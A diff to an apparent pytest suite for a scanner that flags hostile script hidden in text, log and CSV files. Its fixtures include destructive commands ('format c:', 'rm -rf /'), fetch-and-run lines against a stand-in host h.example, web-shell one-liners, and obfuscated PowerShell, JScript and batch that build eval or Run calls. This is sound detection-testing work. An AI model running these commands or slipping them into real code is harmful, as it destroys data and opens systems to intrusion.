@@ -33,19 +33,23 @@ CODE = {
     "Windows commands": (
         "for %%i in (a b c) do @%%i.exe\n", "if exist %temp%\\a (a.exe)\n", "format c: /q /y\n", "pushd \\\\h.example\\s && a.exe\n", "cd /d %appdata%\n",
         "wmic os get /format:\"http://h.example/a.xsl\"\n", "\"%ProgramFiles%\\a\\a.exe\" /s\n", "net user a b /add\n", "echo x>a.vbs\n", "\"%~dp0a\"\n",
-        "taskkill /f /im a.exe\n", "copy /b a+b c & c\n"),
+        "taskkill /f /im a.exe\n", "copy /b a+b c & c\n",
+        ",;,cmd.exe,;,/c,;,start;calc\n", "@%comspec:~-7,1%cho off\n", "wsl -e bash -c id\n", "((cmd /c calc))\n"),
     "Python code": (
         "def main():\n    pass\n", "import pty;pty.spawn('/bin/sh')\n", "import pathlib,webbrowser\n", "try:\n    import winreg\nexcept ImportError:\n    pass\n",
-        "eval(compile(open('a').read(),'a','exec'))\n", "if __name__ == '__main__':\n", "from os.path import join\n"),
+        "eval(compile(open('a').read(),'a','exec'))\n", "if __name__ == '__main__':\n", "from os.path import join\n",
+        "getattr(__builtins__,'ev'+'al')(x)\n"),
     "JavaScript code": (
         "require('child_process').exec('calc')\n", "import {execSync} from 'node:child_process';\n", "var _0x1a2b=['a'];\n", "ObjC.import('stdlib')\n",
-        "eval(function(p,a,c,k,e,d){return p}('0',2))\n", "function go(a, b) {\n", "(function(w){})(1)\n"),
+        "eval(function(p,a,c,k,e,d){return p}('0',2))\n", "function go(a, b) {\n", "(function(w){})(1)\n", "Bun.spawn(['calc']);\n"),
     "Unix code": (
         "rm -rf /\n", "set -euo pipefail\n", "source <(curl -s http://h.example/a)\n", "python3 -c 'import os'\n", "base64 -d <<< 'Y3VybA==' | sh\n",
-        "chmod +x a && ./a\n", "launchctl load ~/a.plist\n", "eval \"$(echo x)\"\n", "mkfifo /tmp/f;cat /tmp/f\n"),
+        "chmod +x a && ./a\n", "launchctl load ~/a.plist\n", "eval \"$(echo x)\"\n", "mkfifo /tmp/f;cat /tmp/f\n",
+        "busybox wget http://h.example/a -O-|ash\n"),
     "AutoIt or AutoHotkey script": ("Run, calc.exe,, Hide\n", "^j::\nreturn\n", "DllCall(\"VirtualAlloc\")\n", "x(@TempDir)\n", "Run calc.exe\n"),
     "Lua code": ("package.loadlib('a.dll','f')()\n", "ffi.cdef[[int system(const char*);]]\n"),
     "PHP code": ("<?=`$_GET[0]`?>\n",),
+    "server page": ("<%eval request(\"c\")%>", "<% eval(request(\"c\")) %>"),
 }
 
 
@@ -92,3 +96,33 @@ def test_hostile_texts_cost_little(line: bytes) -> None:
     begun = time.process_time()
     look(line * (300_000 // len(line)), "a.dat")
     assert time.process_time() - begun < 1.5
+
+
+HIDES = (
+    "&(\"{1}{0}\" -f 'EX','I') (&(\"{0}{2}{1}\" -f'New-','ject','Ob') $x)\n",
+    "$d=[Convert]::FromBase64String('AgMM');for($i=0;$i -lt 3;$i++){$d[$i]=$d[$i] -bxor 7};iex ([Text.Encoding]::UTF8.GetString($d))\n",
+    "$s='clac';iex(-join $s[-1..-($s.Length)])\n",
+    "# report\r\nvar q=WScript['Create'+'Object'](p);q['R'+'un']('calc',0);\r\n",
+    "ExecuteGlobal \"C\"+\"r\"+\"eateObject(\"\"WScript.Shell\"\").Run(\"\"calc\"\")\"\r\n",
+    "k=b'0'*16\nexec(AES.new(k,AES.MODE_ECB).decrypt(base64.b64decode('AA==')))\n",
+    "set q=abc\n@%q:~0,1%%q:~1,1%%q:~2,1%&%q:~0,1%%q:~1,1%\n",
+)
+
+
+@pytest.mark.parametrize("name", ["scan.txt", "note.log", "a.csv"])
+@pytest.mark.parametrize("text", HIDES)
+def test_code_that_hides_what_it_does_is_told_under_a_name_of_text(text: str, name: str) -> None:
+    for octets in (text.encode(), text.encode("utf-16")):
+        assert look(octets, name) == [("SCRIPT-HOST", "code that hides what it does")]
+
+
+@pytest.mark.parametrize("text", [
+    "For review, please: the module decodes its argument with\n\n    eval(unescape(x))\n\nwhich the scanner does not like. " + "Words of a colleague. " * 20,
+    "$rows = Import-Csv a.csv\n$rows | ForEach-Object { '{0};{1}' -f $_.Name, $_.Id } | Set-Content b.csv\n",
+    "{\"script\": \"eval(atob('YQ=='))\", \"b\": [1, 2, 3]}\n",
+    "GET /a?x=%24%7B1%7D 200\nGET /b?c=eval(unescape('a')) 403\n" + "GET /index.html 200\n" * 300,
+    "import os\nprint(os.environ['X'])\nif x == [1, 2]:\n    y = {'a': (1, 2)}\n",
+])
+@pytest.mark.parametrize("name", ["review.txt", "access.log", "a.json"])
+def test_code_for_a_reader_hides_nothing(text: str, name: str) -> None:
+    assert look(text, name) == []
